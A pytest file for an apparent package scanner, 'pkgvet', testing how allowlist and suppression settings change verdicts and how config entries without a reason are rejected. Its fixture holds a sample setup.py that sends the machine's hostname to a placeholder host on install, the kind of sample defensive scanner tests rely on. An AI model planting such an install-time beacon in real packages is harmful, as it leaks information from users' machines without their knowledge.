"""`[tool.pkgvet]`: allowlist and suppressions, applied to real scans through the CLI."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

from builders import make_sdist

SETUP = "import socket, requests\nrequests.get('https://x.invalid/?h=' + socket.gethostname())\n"


def run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    exe = Path(sys.executable).with_name("pkgvet")
    return subprocess.run([str(exe), *args], capture_output=True, text=True, cwd=cwd,
                          timeout=120, env=dict(os.environ))


def test_suppressed_findings_stay_marked_and_stop_counting(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, "beacon", "1.0", {"setup.py": SETUP})
    before = json.loads(run("scan", str(sdist), "-f", "json", cwd=tmp_path).stdout)["results"][0]
    assert before["verdict"] == "malicious"
    (tmp_path / "pyproject.toml").write_text(
        "[tool.pkgvet]\n"
        'suppress = [{ rule = "PV304", package = "beacon", reason = "our own probe" },\n'
        '            { rule = "PV104", reason = "internal mirror check" }]\n'
    )
    proc = run("scan", str(sdist), "-f", "json", cwd=tmp_path)
    after = json.loads(proc.stdout)["results"][0]
    marked = {f["rule_id"]: f for f in after["findings"] if f["suppressed"]}
    assert {"PV304", "PV104"} <= set(marked)
    assert "our own probe" in marked["PV304"]["suppression_reason"]
    assert after["verdict"] == "benign" and proc.returncode == 0


def test_allowed_package_and_config_without_reason(tmp_path: Path) -> None:
    sdist = make_sdist(tmp_path, "beacon", "1.0", {"setup.py": SETUP})
    cfg = tmp_path / "team.toml"
    cfg.write_text('[tool.pkgvet]\nallow = [{ package = "Beacon", reason = "reviewed" }]\n')
    proc = run("scan", str(sdist), "-f", "json", "--config", str(cfg), cwd=tmp_path)
    assert json.loads(proc.stdout)["results"][0]["verdict"] == "benign"
    cfg.write_text('[tool.pkgvet]\nallow = [{ package = "beacon" }]\n')
    bad = run("scan", str(sdist), "--config", str(cfg), cwd=tmp_path)
    assert bad.returncode == 3 and "has no reason" in bad.stderr
